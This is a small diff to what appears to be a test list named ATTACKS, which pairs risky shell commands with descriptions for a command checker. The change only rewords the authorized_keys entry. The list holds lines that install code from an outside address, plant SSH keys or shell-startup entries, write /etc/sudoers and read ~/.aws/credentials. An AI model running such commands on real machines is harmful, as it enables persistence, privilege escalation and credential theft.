@@ -103,7 +103,7 @@ ATTACKS = [
     ("pip install https://e.example/a.whl", "installs code from an address or another index"),
     ("npm i git+ssh://git@e.example/x", "installs code from an address or another index"),
     ("crontab x", "plans something to run later"),
-    ("echo k >> ~/.ssh/authorized_keys", "Writes to ~/.ssh/authorized_keys: keys and hosts of SSH."),
+    ("echo k >> ~/.ssh/authorized_keys", "Writes to ~/.ssh/authorized_keys: who may sign in without a password."),
     ("echo x >> ~/.bashrc", "a file that every new shell or program runs"),
     ("tee /etc/sudoers", "Writes to /etc/sudoers: accounts and keys of the machine."),
     ("cat < ~/.aws/credentials", "Reads or uses ~/.aws/credentials: credentials of a cloud or cluster."),
